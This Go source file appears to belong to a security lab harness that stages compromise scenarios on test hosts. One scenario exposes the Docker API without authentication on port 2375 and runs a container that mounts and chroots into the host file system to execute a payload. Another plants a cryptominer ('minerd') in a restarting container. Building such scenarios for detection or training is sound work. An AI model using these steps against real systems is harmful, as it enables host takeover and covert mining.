package lab

import (
	"context"
	"fmt"
)

// dockerEntries end in a container of a real Docker engine.
var dockerEntries = []Entry{
	{Name: "docker", What: "a container with the host's file system, made over the Docker API on tcp://", Cause: "docker-api",
		Cites: []string{"open", "host-mount", "fresh", "fetches"}, play: openDocker},
	{Name: "container-image", What: "an image that holds the stand-in, which the operator ran", Cause: "container-image",
		Cites: []string{"in-image", "own-program"}, play: badImage},
}

// importImage starts the engine and makes an image of /srv/image.
func (h *Host) importImage(ctx context.Context, name string) error {
	if err := h.lay(ctx, "/etc/docker/daemon.json", engine); err != nil {
		return err
	}
	_, err := h.sh(ctx, fmt.Sprintf(`mkdir -p /var/lib/docker && mount -t tmpfs tmpfs /var/lib/docker
systemctl daemon-reload; systemctl start docker; docker info >/dev/null
tar -C /srv/image -c . | docker import - %s >/dev/null`, name))
	return err
}

func badImage(ctx context.Context, h *Host) error {
	from, err := h.variant(ctx, "stripped")
	if err != nil {
		return err
	}
	if err := h.CopyIn(ctx, from, "/srv/image/tmp/minerd"); err != nil {
		return err
	}
	const image = "registry.example.com/cache:7"
	if err := h.importImage(ctx, image); err != nil {
		return err
	}
	return h.enter(ctx, OperatorV4, "owner", "docker run -d --network none --restart always "+image+" /tmp/minerd -threads 1 >/dev/null")
}

// tcpUnit is how owners open the engine to their network: its unit says where it listens.
const tcpUnit = `[Service]
ExecStart=
ExecStart=/usr/sbin/dockerd -H fd:// -H tcp://0.0.0.0:2375 --containerd=/run/containerd/containerd.sock
`

func openDocker(ctx context.Context, h *Host) error {
	if err := h.open(ctx, 2375); err != nil {
		return err
	}
	if err := h.lay(ctx, "/etc/systemd/system/docker.service.d/override.conf", tcpUnit); err != nil {
		return err
	}
	if _, err := h.sh(ctx, `mkdir -p /srv/image/bin; cp /bin/busybox /srv/image/bin/
for p in sh chroot sleep; do ln -s busybox /srv/image/bin/$p; done`); err != nil {
		return err
	}
	if err := h.importImage(ctx, "alpine:latest"); err != nil {
		return err
	}
	return h.outside(ctx, "", "docker -H tcp://"+HostV4+":2375 run -d --network host -v /:/mnt alpine:latest /bin/sh -c "+
		"'/bin/chroot /mnt sh -c \""+payload+"\"; while :; do /bin/sleep 60; done'")
}
